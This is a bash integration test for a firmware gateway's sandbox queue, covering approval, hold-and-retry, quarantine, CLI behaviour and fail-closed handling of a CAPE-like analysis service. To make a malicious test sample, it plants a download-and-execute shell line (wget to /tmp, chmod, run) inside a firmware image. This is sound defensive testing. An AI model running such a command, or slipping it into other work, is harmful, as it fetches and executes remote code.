#!/usr/bin/env bash
# Integration tests of the sandbox queue through the real gateway
# (`fwgate run`), real curl, the real TLS origin (origin.py) and packages
# made by real tools (zip, tar) from real firmware (OVMF, SeaBIOS) and a
# real PE (an NSIS plug-in DLL):
#  - local backend: a package with a firmware image, a PE and a nested
#    archive creates the expected jobs and is approved; held past
#    hold_seconds it gets 503 Retry-After, and the retry gets the bytes; an
#    image with an embedded ELF and a download-and-execute string is
#    quarantined with the findings; a member shared by two packages is
#    analyzed once; the CLI lists, shows and retries jobs;
#  - cape backend, against tests/cape/cape_service (a CAPE-API-compatible
#    stand-in: there is no real CAPE here): benign, malicious, service down
#    (fail closed after the retries), a slow task (held, 503, then served),
#    and a restart with jobs queued and running that complete afterwards.
# Usage: sandbox.sh FWGATE_BINARY SOURCE_ROOT CAPE_SERVICE_BINARY
set -u
FW=$1
SRC=$2
CAPE=$3
HERE=$SRC/tests/integration
T=$(mktemp -d "${TMPDIR:-/tmp}/fwgate-sandbox-XXXXXX")
pids=()
cleanup() {
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	wait 2>/dev/null
	rm -rf "$T"
}
trap cleanup EXIT
. "$HERE/lib.sh"
sha_of() { sha256sum "$1" | cut -d' ' -f1; }

# fetch URL: sets CODE; body in $T/body, headers in $T/headers
fetch() {
	rm -f "$T/body" "$T/headers"
	CODE=$(curl -s -o "$T/body" -D "$T/headers" -w '%{http_code}' --max-time 60 \
		--proxy "http://127.0.0.1:$GP" --cacert "$GCA" "$1")
	touch "$T/body" "$T/headers"
}
hdr() { sed -n "s/^$1:[[:space:]]*//Ip" "$T/headers" | tr -d '\r' | tail -n 1; }

# fetch_until URL CODE SECONDS: fetches every half second until CODE
fetch_is() { fetch "$1"; [ "$CODE" = "$2" ]; }
fetch_until() { wait_for "$1 to answer $2" "$3" 0.5 fetch_is "$1" "$2"; }

# make_conf FILE STATE PORT EVENTS [extra [sandbox] lines...]
make_conf() {
	local f=$1 s=$2 p=$3 ev=$4; shift 4
	{
		printf '[proxy]\nlisten = 127.0.0.1:%s\n' "$p"
		printf '[console]\nlisten = 127.0.0.1:%s\n' "$(free_port)"
		printf '[state]\ndir = %s\n[policy]\nfile = %s/card.json\nallowlist = %s/allow.txt\n' "$s" "$T" "$T"
		printf '[upstream]\nca_file = %s/pki/testca.crt\nallow_private = true\n' "$T"
		printf 'resolve = vendor.test:%s:127.0.0.1\n' "$OP"
		printf '[scanner]\nsignatures = %s/sigs\ntimeout_seconds = 60\nmax_seconds = 30\n' "$T"
		printf '[log]\nfile = %s\n' "$ev"
		printf '[sandbox]\n'
		for l in "$@"; do printf '%s\n' "$l"; done
	} >"$f"
}

# jobs_json CONF: `fwgate sandbox list --json`
jobs_json() { "$FW" sandbox list --json -c "$1"; }
# jq_py EXPR: evaluates a Python expression on the JSON on stdin (as d)
jq_py() { python3 -c "import json,sys; d=json.load(sys.stdin); print($1)"; }
# object id of URL in `quarantine list --json` (pending, quarantined)
qid() {
	"$FW" quarantine list --json -c "$1" | python3 -c '
import json, sys
for o in json.load(sys.stdin):
    if o.get("url") == sys.argv[1]:
        print(o["id"]); break
' "$2"
}

# --- real inputs
OVMF=/usr/share/ovmf/OVMF.fd
SEABIOS=/usr/share/seabios/bios.bin
# A real PE made by a real toolchain (mingw): an NSIS plug-in DLL. (UEFI
# applications are not used: ClamAV 1.0 reports every gnu-efi binary as
# Heuristics.Broken.Executable.)
EFI=/usr/share/nsis/Plugins/x86-ansi/UserInfo.dll
for f in "$OVMF" "$SEABIOS" "$EFI"; do
	[ -r "$f" ] || { echo "missing $f (tools/dev.sh installs ovmf, seabios, nsis-common)"; exit 1; }
done
mkdir -p "$T/www" "$T/sigs" "$T/mk/inner" "$T/mk/mal" "$T/mk/shared"
bash "$HERE/pki.sh" "$T/pki" >/dev/null || { echo "pki.sh failed"; exit 1; }
cp "$SRC/tests/data/signatures/eicar.ndb" "$T/sigs/"

# pkg.zip: firmware image + PE + a nested tar.gz
cp "$OVMF" "$T/mk/OVMF.fd"
cp "$EFI" "$T/mk/plugin.dll"
printf 'release notes\n' >"$T/mk/inner/README.txt"
(cd "$T/mk" && tar -czf inner.tar.gz inner && zip -q "$T/www/pkg.zip" OVMF.fd plugin.dll inner.tar.gz) \
	|| { echo "making pkg.zip failed"; exit 1; }
# held.zip: the same members plus one of its own, for the hold test
printf 'held package notes\n' >"$T/mk/held.txt"
(cd "$T/mk" && zip -q "$T/www/held.zip" plugin.dll held.txt) || exit 1
# shared.zip: the PE again, in another package
printf 'another package\n' >"$T/mk/shared/notes.txt"
(cd "$T/mk" && zip -q "$T/www/shared.zip" plugin.dll shared/notes.txt) || exit 1
# mal.zip: a SeaBIOS image with an ELF embedded in its middle and a
# download-and-execute line
cp "$SEABIOS" "$T/mk/mal/bios.bin"
dd if=/bin/true of="$T/mk/mal/bios.bin" bs=1 seek=65536 conv=notrunc status=none
printf 'wget http://203.0.113.7/s -O /tmp/s; chmod +x /tmp/s && ./s\0' |
	dd of="$T/mk/mal/bios.bin" bs=1 seek=32768 conv=notrunc status=none
(cd "$T/mk/mal" && zip -q "$T/www/mal.zip" bios.bin) || exit 1
# CAPE packages: stored (-0), so the markers are in the zip's bytes too
printf 'CAPE-TEST-BENIGN-NOTHING\n' >"$T/mk/c_ok.txt"
printf 'CAPE-TEST-MALICIOUS\n' >"$T/mk/c_bad.txt"
printf 'CAPE-TEST-SLOW\n' >"$T/mk/c_slow.txt"
printf 'CAPE-TEST-SLOW two\n' >"$T/mk/c_slow2.txt"
printf 'down\n' >"$T/mk/c_down.txt"
(cd "$T/mk" && zip -q -0 "$T/www/c_ok.zip" c_ok.txt && zip -q -0 "$T/www/c_bad.zip" c_bad.txt &&
	zip -q -0 "$T/www/c_slow.zip" c_slow.txt && zip -q -0 "$T/www/c_down.zip" c_down.txt &&
	zip -q -0 inner1.zip c_slow.txt && zip -q -0 inner2.zip c_slow2.txt &&
	zip -q -0 "$T/www/c_restart.zip" inner1.zip inner2.zip) || exit 1

start_origin origin
OP=$ORIGIN_PORT
BASE="https://vendor.test:$OP/files"
make_card "$T/card.json" "$OP"
printf 'vendor.test\n' >"$T/allow.txt"

# ============================================================ local backend
S=$T/state
EV=$T/events.log
CONF=$T/local.conf
GP=$(free_port)
make_conf "$CONF" "$S" "$GP" "$EV" "backend = local" "hold_seconds = 30" "runners = 2"
start_fwgate local "$CONF"
GCA=$S/ca/ca.crt

fetch "$BASE/pkg.zip"
check "local: a package with a firmware image, a PE and a nested archive is approved: 200" [ "$CODE" = 200 ]
check "local: the bytes are the vendor's" cmp -s "$T/body" "$T/www/pkg.zip"
check "local: X-Fwgate-Verdict: clean" [ "$(hdr X-Fwgate-Verdict)" = clean ]
jobs_json "$CONF" >"$T/jobs1.json"
types=$(jq_py '" ".join(sorted(set(j["file_type"] for j in d)))' <"$T/jobs1.json")
check "local: jobs for the package, the image, the PE and the nested archive ($types)" \
	[ "$types" = "archive firmware_image pe" ]
check "local: and one for each module of the firmware image (PE32 of its volumes)" \
	[ "$(jq_py 'sum(1 for j in d if j["file_type"] == "pe") > 100' <"$T/jobs1.json")" = True ]
check "local: every job done and benign" \
	[ "$(jq_py 'all(j["state"] == "done" and j["verdict"] == "benign" for j in d)' <"$T/jobs1.json")" = True ]
check "local: the package's jobs ran in the local backend" \
	[ "$(jq_py 'set(j["backend"] for j in d) == {"local"}' <"$T/jobs1.json")" = True ]
check "local: a sandbox-verdict event for the package" grep -q '"event.action":"sandbox-verdict"' "$EV"
fetch "$BASE/pkg.zip"
check "local: the second GET is a store hit" [ "$CODE" = 200 ] && [ "$(hdr X-Fwgate-Cache)" = hit ]
EFI_SHA=$(sha_of "$EFI")
fetch "$BASE/shared.zip"
check "local: a second package with the same PE: 200" [ "$CODE" = 200 ]
check "local: the shared PE was analyzed once (one job, one attempt)" \
	[ "$(jobs_json "$CONF" | jq_py "sum(1 for j in d if j['sha256'] == '$EFI_SHA')")" = 1 ]
check "local: ... and that job has one attempt" \
	[ "$(jobs_json "$CONF" | jq_py "[j['attempts'] for j in d if j['sha256'] == '$EFI_SHA'][0]")" = 1 ]

fetch "$BASE/mal.zip"
check "local: an image with an embedded ELF and a download-and-execute line: 403" [ "$CODE" = 403 ]
check "local: the page says infected by the sandbox" grep -q "infected" "$T/body"
check "local: the page names the member" grep -q "bios.bin" "$T/body"
check "local: nothing of the package was delivered" not cmp -s "$T/body" "$T/www/mal.zip"
MAL_ID=$(qid "$CONF" "$BASE/mal.zip")
check "local: the package is quarantined (object $MAL_ID)" [ -n "$MAL_ID" ]
"$FW" quarantine show "$MAL_ID" --json -c "$CONF" >"$T/malshow.json"
check "local: quarantine show: state quarantined, verdict infected" \
	[ "$(jq_py 'd["state"] + " " + d["verdict"]' <"$T/malshow.json")" = "quarantined infected" ]
kinds=$(jq_py '" ".join(sorted({f["kind"] for j in d["sandbox"] for f in ((j["findings"] or {}).get("analysis") or {}).get("findings", [])}))' <"$T/malshow.json")
check "local: quarantine show lists the findings: embedded-elf ($kinds)" grep -qw embedded-elf <<<"$kinds"
check "local: ... and download-exec" grep -qw download-exec <<<"$kinds"
check "local: the malicious job's score is at least malicious_score" \
	[ "$(jq_py 'max(j["score"] for j in d["sandbox"])' <"$T/malshow.json")" -ge 70 ]
check "local: the blob is in quarantine/, not objects/" \
	[ -f "$S/quarantine/$(sha_of "$T/www/mal.zip" | cut -c1-2)/$(sha_of "$T/www/mal.zip")" ]
fetch "$BASE/mal.zip"
check "local: asked again, still refused without a fetch: 403" [ "$CODE" = 403 ]

# A newer bundle: the judged members of pkg.zip plus the bad image. Its
# links are made all at once, so the known benign verdicts cannot approve
# it before the image is judged.
(cd "$T/mk" && cp "$T/www/pkg.zip" "$T/www/pkg2.zip" && cd mal && zip -q "$T/www/pkg2.zip" bios.bin) || exit 1
fetch "$BASE/pkg2.zip"
check "local: judged members plus a malicious one: 403" [ "$CODE" = 403 ]
check "local: ... refused for the new member" grep -q "pkg2.zip!bios.bin" "$T/body"
# The same bytes as an approved package, under a new URL: judged again
# from the verdicts already in (no new job), and delivered.
cp "$T/www/pkg.zip" "$T/www/pkg-copy.zip"
jobs_before=$(jobs_json "$CONF" | jq_py 'len(d)')
fetch "$BASE/pkg-copy.zip"
check "local: approved bytes under a new URL: 200" cmp -s "$T/body" "$T/www/pkg.zip"
check "local: ... with no new job (fresh verdicts reused)" [ "$(jobs_json "$CONF" | jq_py 'len(d)')" = "$jobs_before" ]

# CLI: show one job, retry one, errors
JOB=$(jobs_json "$CONF" | jq_py "[j['id'] for j in d if j['sha256'] == '$EFI_SHA'][0]")
"$FW" sandbox show "$JOB" -c "$CONF" >"$T/show.json"
check "cli: sandbox show names the packages linked to the job (shared, pkg2, and pkg's bytes under their latest URL)" \
	[ "$(jq_py 'len(d["links"])' <"$T/show.json")" = 3 ]
check "cli: sandbox show has the findings" [ "$(jq_py 'd["findings"]["backend"]' <"$T/show.json")" = local ]
"$FW" sandbox list -c "$CONF" >"$T/list.txt"
check "cli: sandbox list prints a table" grep -q "^JOB " "$T/list.txt"
check "cli: sandbox show of an unknown job fails" not "$FW" sandbox show 99999 -c "$CONF" 2>/dev/null
check "cli: sandbox retry of an unknown job fails" not "$FW" sandbox retry 99999 -c "$CONF" 2>/dev/null
check "cli: sandbox with an unknown subcommand is a usage error" \
	test "$("$FW" sandbox frob -c "$CONF" >/dev/null 2>&1; echo $?)" = 2
check "cli: sandbox retry of a done job" "$FW" sandbox retry "$JOB" --as tester -c "$CONF"
check "cli: the retry is audited" sh -c "'$FW' audit list -c '$CONF' | grep -q 'sandbox-retry.*tester'"
job_done() { [ "$(jobs_json "$CONF" | jq_py "[j['state'] for j in d if j['id'] == $JOB][0]")" = done ]; }
wait_for "the retried job $JOB to be done" 10 0.25 job_done
check "cli: the retried job ran again in the running gateway" \
	[ "$(jobs_json "$CONF" | jq_py "[j['state'] + str(j['attempts']) for j in d if j['id'] == $JOB][0]")" = done1 ]
kill "$FWPID"; wait "$FWPID" 2>/dev/null

# The local backend offline: sandbox analyze
"$FW" sandbox analyze "$T/mk/mal/bios.bin" "$OVMF" -c "$CONF" >"$T/an.txt" 2>"$T/an.err"
rc=$?
check "analyze: a malicious image makes exit 1 ($rc)" [ "$rc" = 1 ]
check "analyze: the image is judged malicious with its findings" \
	grep -q "bios.bin (firmware_image): malicious" "$T/an.txt"
check "analyze: ... embedded-elf listed" grep -q "embedded-elf" "$T/an.txt"
check "analyze: OVMF is benign" grep -q "OVMF.fd (firmware_image): benign" "$T/an.txt"
"$FW" sandbox analyze "$T/www/pkg.zip" --json -c "$CONF" >"$T/an.json" 2>/dev/null
check "analyze: a clean package exits 0 with every member benign, each module of the image too" \
	[ "$(jq_py '" ".join(sorted(set(m["file_type"] + ":" + m["verdict"] for m in d["members"]))) + " " + str(len(d["members"]) > 100)' <"$T/an.json")" = \
	"archive:benign firmware_image:benign pe:benign True" ]
check "analyze: a missing file is an error (exit 2)" \
	test "$("$FW" sandbox analyze "$T/none" -c "$CONF" >/dev/null 2>&1; echo $?)" = 2

# hold_seconds = 0: the analysis outlasts the hold; 503 with Retry-After,
# then the retry is answered from the store
CONF0=$T/local0.conf
GP=$(free_port)
make_conf "$CONF0" "$S" "$GP" "$EV" "backend = local" "hold_seconds = 0"
start_fwgate local0 "$CONF0"
fetch "$BASE/held.zip"
check "hold: the first request gets 503" [ "$CODE" = 503 ]
check "hold: with Retry-After" [ -n "$(hdr Retry-After)" ]
check "hold: the page says it is under analysis and names the jobs" grep -q "under analysis.*sandbox job" "$T/body"
check "hold: nothing of the package was delivered" not grep -q "held package notes" "$T/body"
fetch_until "$BASE/held.zip" 200 20
check "hold: the retry gets the bytes" cmp -s "$T/body" "$T/www/held.zip"
check "hold: from the store (no second fetch)" \
	[ "$(grep -c 'GET /files/held.zip$' "$T/origin.log")" = 1 ]
kill "$FWPID"; wait "$FWPID" 2>/dev/null

# backend none with a policy that sandboxes: refused at start
CONFN=$T/none.conf
make_conf "$CONFN" "$T/state-none" "$(free_port)" "$T/none.log" "backend = none"
"$FW" run -c "$CONFN" >"$T/none.out" 2>"$T/none.err"
rc=$?
check "none: a sandboxing policy with backend none does not start (exit $rc)" [ "$rc" != 0 ]
check "none: the error says why" grep -q "backend is none" "$T/none.err"
check "none: fwgate config check refuses it too" not "$FW" config check -c "$CONFN" >/dev/null 2>&1
printf '[sandbox]\nbackend = cape\nurl = ftp://sandbox.example/\n' >"$T/badurl.conf"
check "cape: a non-HTTP url is refused by config check" \
	sh -c "'$FW' config check -c '$T/badurl.conf' 2>&1 >/dev/null | grep -q 'only http:// and https://'"

# ============================================================ cape backend
"$CAPE" --port-file "$T/cape.port" --token s3cret --log "$T/cape.log" --slow-seconds 4 --max-seconds 300 \
	2>"$T/cape.err" &
pids+=($!)
CAPEPID=$!
wait_for "the CAPE double to listen" 5 0.05 test -s "$T/cape.port"
CP=$(cat "$T/cape.port")
printf 's3cret\n' >"$T/cape.token"
chmod 600 "$T/cape.token"
cape_stats() { curl -s "http://127.0.0.1:$CP/test/stats"; }
cape_mode() { curl -s -X POST "http://127.0.0.1:$CP/test/mode?m=$1" >/dev/null; }

SC=$T/state-cape
EVC=$T/events-cape.log
CONFC=$T/cape.conf
GP=$(free_port)
make_conf "$CONFC" "$SC" "$GP" "$EVC" "backend = cape" "url = http://127.0.0.1:$CP" "token_file = $T/cape.token" \
	"hold_seconds = 2" "retries = 1" "timeout_seconds = 60" "runners = 1"
start_fwgate cape "$CONFC"
GCA=$SC/ca/ca.crt

fetch "$BASE/c_ok.zip"
check "cape: a benign package is approved: 200" [ "$CODE" = 200 ]
check "cape: byte-identical" cmp -s "$T/body" "$T/www/c_ok.zip"
check "cape: the service got the sample with the token" grep -q "POST /apiv2/tasks/create/file/ 200" "$T/cape.log"
check "cape: the job's findings are the report summary (malscore 0)" \
	[ "$(jobs_json "$CONFC" | jq_py 'd[0]["backend"] + " " + d[0]["verdict"]')" = "cape benign" ]

fetch "$BASE/c_bad.zip"
check "cape: a malicious package: 403" [ "$CODE" = 403 ]
check "cape: the page names the report's signature" grep -q "downloader_cabby" "$T/body"
BAD_ID=$(qid "$CONFC" "$BASE/c_bad.zip")
"$FW" quarantine show "$BAD_ID" --json -c "$CONFC" >"$T/cbad.json"
check "cape: quarantined as infected with the CAPE findings" \
	[ "$(jq_py 'd["verdict"] + " " + str(d["sandbox"][0]["findings"]["malscore"])' <"$T/cbad.json")" = "infected 9.0" ]

fetch "$BASE/c_slow.zip"
check "cape: a slow task: the first request gets 503 after the hold" [ "$CODE" = 503 ]
check "cape: ... with Retry-After" [ -n "$(hdr Retry-After)" ]
fetch_until "$BASE/c_slow.zip" 200 30
check "cape: ... and a retry gets the bytes once the report is in" cmp -s "$T/body" "$T/www/c_slow.zip"

cape_mode error
fetch "$BASE/c_down.zip"
check "cape: the service is down: nothing delivered ($CODE)" in_set "$CODE" 503 403
fetch_until "$BASE/c_down.zip" 403 30
check "cape: after the retries the package is refused: 403" [ "$CODE" = 403 ]
check "cape: held for review as unscannable" grep -q "unscannable" "$T/body"
DOWN_ID=$(qid "$CONFC" "$BASE/c_down.zip")
"$FW" quarantine show "$DOWN_ID" --json -c "$CONFC" >"$T/cdown.json"
check "cape: the failed job says the service answered HTTP 500" \
	[ "$(jq_py 'd["sandbox"][0]["state"] + " " + str("HTTP 500" in d["sandbox"][0]["error"])' <"$T/cdown.json")" = "failed True" ]
check "cape: it was tried 1 + retries times" [ "$(jq_py 'd["sandbox"][0]["attempts"]' <"$T/cdown.json")" = 2 ]
cape_mode ok
DOWN_JOB=$(jq_py 'd["sandbox"][0]["id"]' <"$T/cdown.json")
check "cape: staff retry the failed job" "$FW" sandbox retry "$DOWN_JOB" --as tester -c "$CONFC"
fetch_until "$BASE/c_down.zip" 200 30
check "cape: after the retry the package is approved and served" cmp -s "$T/body" "$T/www/c_down.zip"

# Newer CAPE answers success with "error": []; and CAPE may split one
# upload into several tasks (its archive demux): every task is judged.
printf 'modern service\n' >"$T/mk/c_modern.txt"
printf 'split me\n' >"$T/mk/c_split.txt"
(cd "$T/mk" && zip -q -0 "$T/www/c_modern.zip" c_modern.txt && zip -q -0 "$T/www/c_split.zip" c_split.txt) || exit 1
cape_mode modern
fetch_until "$BASE/c_modern.zip" 200 20
check "cape: a service answering \"error\": [] on success is understood: 200" cmp -s "$T/body" "$T/www/c_modern.zip"
cape_mode split
fetch_until "$BASE/c_split.zip" 403 20
check "cape: a sample split into two tasks, one malicious: 403" [ "$CODE" = 403 ]
SPLIT_ID=$(qid "$CONFC" "$BASE/c_split.zip")
"$FW" quarantine show "$SPLIT_ID" --json -c "$CONFC" >"$T/csplit.json"
check "cape: ... both tasks were polled (task ids $(jq_py 'd["sandbox"][0]["findings"]["task_id"]' <"$T/csplit.json"))" \
	grep -q '"task_id": "[0-9]*,[0-9]*"' "$T/csplit.json"
check "cape: ... and the worst one counts (infected)" [ "$(jq_py 'd["verdict"]' <"$T/csplit.json")" = infected ]
# CAPE judged only part of the sample (a file it rejected is in "errors"):
# not a verdict; the job fails, closed.
printf 'partly judged\n' >"$T/mk/c_partial.txt"
(cd "$T/mk" && zip -q -0 "$T/www/c_partial.zip" c_partial.txt) || exit 1
cape_mode partial
fetch_until "$BASE/c_partial.zip" 403 20
check "cape: a sample CAPE judged only in part: 403 unscannable" grep -q "unscannable" "$T/body"
check "cape: ... the job says CAPE refused part of it" \
	sh -c "'$FW' sandbox list --json -c '$CONFC' | grep -q 'refused part of the sample'"
cape_mode ok

# A service that answers garbage, or a malscore off CAPE's 0..10 scale:
# never taken for a verdict; the package fails closed.
printf 'garbage answers\n' >"$T/mk/c_garbage.txt"
printf 'bad score\n' >"$T/mk/c_badscore.txt"
printf 'huge answers\n' >"$T/mk/c_huge.txt"
(cd "$T/mk" && zip -q -0 "$T/www/c_garbage.zip" c_garbage.txt && zip -q -0 "$T/www/c_badscore.zip" c_badscore.txt &&
	zip -q -0 "$T/www/c_huge.zip" c_huge.txt) || exit 1
for m in garbage badscore huge; do
	cape_mode "$m"
	fetch_until "$BASE/c_$m.zip" 403 30
	check "cape: a service answering $m: refused, 403" [ "$CODE" = 403 ]
	check "cape: ... held as unscannable" grep -q "unscannable" "$T/body"
	id=$(qid "$CONFC" "$BASE/c_$m.zip")
	"$FW" quarantine show "$id" --json -c "$CONFC" >"$T/c$m.json"
	check "cape: ... the job says why ($(jq_py 'd["sandbox"][0]["error"][:60]' <"$T/c$m.json"))" \
		[ "$(jq_py 'd["sandbox"][0]["state"]' <"$T/c$m.json")" = failed ]
done
check "cape: garbage is named as not JSON" grep -q "not a JSON object" "$T/cgarbage.json"
check "cape: the bad score is named" grep -q "outside 0..10" "$T/cbadscore.json"
check "cape: an answer over its bound is refused unread past it" grep -q "is over 65536 bytes" "$T/chuge.json"
cape_mode ok

# A wrong token: the service refuses (401), the package fails closed.
printf 'wrong-token\n' >"$T/wrong.token"
SW=$T/state-wrong
GPW=$(free_port)
make_conf "$T/wrong.conf" "$SW" "$GPW" "$T/events-wrong.log" "backend = cape" "url = http://127.0.0.1:$CP" \
	"token_file = $T/wrong.token" "hold_seconds = 5" "retries = 0"
GP0=$GP GCA0=$GCA
kill "$FWPID"; wait "$FWPID" 2>/dev/null
start_fwgate wrong "$T/wrong.conf"
GP=$GPW GCA=$SW/ca/ca.crt
fetch_until "$BASE/c_ok.zip" 403 20
check "cape: a wrong token: refused, 403" [ "$CODE" = 403 ]
check "cape: ... the job failed on HTTP 401" \
	sh -c "'$FW' sandbox list --json -c '$T/wrong.conf' | grep -q 'HTTP 401'"
kill "$FWPID"; wait "$FWPID" 2>/dev/null
GP=$(free_port)
make_conf "$CONFC" "$SC" "$GP" "$EVC" "backend = cape" "url = http://127.0.0.1:$CP" "token_file = $T/cape.token" \
	"hold_seconds = 2" "retries = 1" "timeout_seconds = 60" "runners = 1"
start_fwgate cape1b "$CONFC"
GCA=$GCA0

# Restart: one job running at the service, one queued behind it (one
# runner); the gateway stops; the next start finishes both.
fetch "$BASE/c_restart.zip"
check "restart: held, 503" [ "$CODE" = 503 ]
running_and_queued() {
	[ "$(jobs_json "$CONFC" | jq_py '" ".join(sorted({j["state"] for j in d} & {"running", "queued"}))')" = "queued running" ]
}
wait_for "one job running and one queued" 10 0.1 running_and_queued
jobs_json "$CONFC" >"$T/before.json"
check "restart: jobs are running and queued before the stop" \
	[ "$(jq_py '" ".join(sorted({j["state"] for j in d} & {"running", "queued"}))' <"$T/before.json")" = "queued running" ]
subs_before=$(cape_stats | jq_py 'd["submissions"]')
kill "$FWPID"; wait "$FWPID" 2>/dev/null
check "restart: a job is still recorded running after the stop" \
	[ "$(jobs_json "$CONFC" | jq_py 'sum(1 for j in d if j["state"] == "running")')" -ge 1 ]
GP=$(free_port)
make_conf "$CONFC" "$SC" "$GP" "$EVC" "backend = cape" "url = http://127.0.0.1:$CP" "token_file = $T/cape.token" \
	"hold_seconds = 2" "retries = 1" "timeout_seconds = 60" "runners = 1"
start_fwgate cape2 "$CONFC"
check "restart: the gateway says it resumed the running jobs" grep -q "sandbox-resume" "$EVC"
fetch_until "$BASE/c_restart.zip" 200 60
check "restart: the package is approved after the restart and served" cmp -s "$T/body" "$T/www/c_restart.zip"
check "restart: every job done" \
	[ "$(jobs_json "$CONFC" | jq_py 'all(j["state"] in ("done", "failed") for j in d)')" = True ]
subs_after=$(cape_stats | jq_py 'd["submissions"]')
check "restart: the running task was polled, not submitted again ($subs_before -> $subs_after)" \
	[ $((subs_after - subs_before)) -le 2 ]
kill "$FWPID"; wait "$FWPID" 2>/dev/null

echo "$pass passed, $fail failed"
[ "$fail" = 0 ]
